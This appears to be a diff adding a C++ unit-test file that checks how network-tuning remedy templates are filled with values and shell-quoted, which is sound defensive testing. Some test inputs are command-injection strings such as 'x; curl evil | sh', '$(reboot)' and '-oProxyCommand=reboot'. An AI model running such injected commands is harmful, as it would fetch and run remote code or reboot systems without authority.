@@ -1,0 +1,69 @@
+#include <gtest/gtest.h>
+
+#include "framework/limits/limit.h"
+
+namespace rigproof {
+namespace {
+
+std::string filled(std::string_view remedy, const RemedyValues& values) {
+  return to_text(fill_placeholders(parse_remedy(remedy), values));
+}
+
+TEST(Remedy, HasItsRemarkApart) {
+  EXPECT_EQ(parse_remedy("ethtool {netdev}  # then the cable # of {node}"),
+            (Remedy{"ethtool {netdev}", "then the cable # of {node}"}));
+  EXPECT_EQ(parse_remedy("look"), (Remedy{"look"}));
+  EXPECT_EQ(to_text(Remedy{"look", "closely"}), "look # closely");
+  EXPECT_EQ(to_text(Remedy{"look"}), "look");
+  EXPECT_EQ(to_text(Remedy{"", "closely"}), "# closely");
+}
+TEST(Remedy, OrdinaryValuesStandAsTheyAre) {
+  EXPECT_EQ(filled("ip link set {netdev} mtu {mtu}", {{"netdev", "eth0"}, {"mtu", "9000"}}),
+            "ip link set eth0 mtu 9000");
+  EXPECT_EQ(filled("for n in {netdevs}; do ethtool $n; done # {here} here, {there} on {others}",
+                   {{"netdevs", "enp1s0f0np0 enP2p1s0f0np0"},
+                    {"here", "6.1.0 (x)"},
+                    {"there", "4096\t87380"},
+                    {"others", "node-b"}}),
+            "for n in enp1s0f0np0 enP2p1s0f0np0; do ethtool $n; done # 6.1.0 (x) here, 4096 87380 on node-b");
+  EXPECT_EQ(filled("sudo sysctl -w {sysctl}='{wanted}'",
+                   {{"sysctl", "net.ipv4.tcp_rmem"}, {"wanted", "4096 131072 6291456"}}),
+            "sudo sysctl -w net.ipv4.tcp_rmem='4096 131072 6291456'");
+  EXPECT_EQ(filled("sudo ip addr {change} dev {netdev}", {{"change", "add 10.1.0.1/16"}, {"netdev", "eth0"}}),
+            "sudo ip addr add 10.1.0.1/16 dev eth0");
+  EXPECT_EQ(filled("ping -s $(({mtu} - 28)) {peer}", {{"mtu", "9000"}, {"peer", "10.1.0.2"}}),
+            "ping -s $((9000 - 28)) 10.1.0.2");
+}
+// What a record says is never a command.
+TEST(Remedy, AValueIsOneWordOfTheShell) {
+  EXPECT_EQ(filled("ping -I {netdev} {peer}", {{"netdev", "x; curl evil | sh"}, {"peer", "it's"}}),
+            R"(ping -I 'x; curl evil | sh' 'it'\''s')");
+  EXPECT_EQ(filled("cat {file} # of {node}", {{"file", "a # b"}, {"node", "node-a"}}),
+            "cat 'a # b' # of node-a");
+  EXPECT_EQ(filled("for n in {netdevs}; do", {{"netdevs", "a $(reboot) b;c"}}),
+            "for n in a '$(reboot)' 'b;c'; do");
+  EXPECT_EQ(filled("look # {here} here", {{"here", "x\n; reboot"}}), R"(look # 'x\x0A; reboot' here)");
+}
+// In quotes, which another shell may read again, in arithmetic and for a program that would take it for an option.
+TEST(Remedy, AValueThatCannotBeTypedThereIsAWordInCapitals) {
+  EXPECT_EQ(filled("sysctl -w x='{wanted}'", {{"wanted", "1'; reboot; '"}}), "sysctl -w x='LIMIT'");
+  EXPECT_EQ(filled("ssh {to} \"ip link show {netdev}\"", {{"to", "node-b"}, {"netdev", "x;reboot"}}),
+            "ssh node-b \"ip link show NETDEV\"");
+  EXPECT_EQ(filled("ping -s $(({mtu} - 28)) -I {netdev}", {{"mtu", "a[$(reboot)]"}, {"netdev", "a b"}}),
+            "ping -s $((MTU - 28)) -I 'a b'");
+  EXPECT_EQ(filled("echo `cat {file}`", {{"file", "a;b"}}), "echo `cat FILE`");
+  EXPECT_EQ(filled("echo \"$(cat {file})\"", {{"file", "a b"}}), "echo \"$(cat FILE)\"");
+  EXPECT_EQ(filled("ssh-copy-id {to}", {{"to", "-oProxyCommand=reboot"}}), "ssh-copy-id OTHER_NODE");
+  EXPECT_EQ(filled("sysctl -w x={wanted}", {{"wanted", "-1"}}), "sysctl -w x=-1");
+  EXPECT_EQ(filled("cat {file}", {{"file", "a\nreboot"}}), "cat FILE");
+}
+TEST(Remedy, WhatHasNoValueIsAWordInCapitals) {
+  EXPECT_EQ(filled("ethtool {netdev} # {here} here, {there} on {others}: {peer_node}", {{"netdev", ""}}),
+            "ethtool NETDEV # VALUE here, OTHER_VALUE on most nodes: PEER_NODE");
+  EXPECT_EQ(filled("sysctl net.core.{r,w}mem_max ${name} {unknown} {Word} {netdev", {{"netdev", "eth0"}}),
+            "sysctl net.core.{r,w}mem_max ${name} UNKNOWN {Word} {netdev");
+  EXPECT_EQ(filled("{a}{a}", {{"a", "{a}"}}), "'{a}''{a}'");
+}
+
+}  // namespace
+}  // namespace rigproof
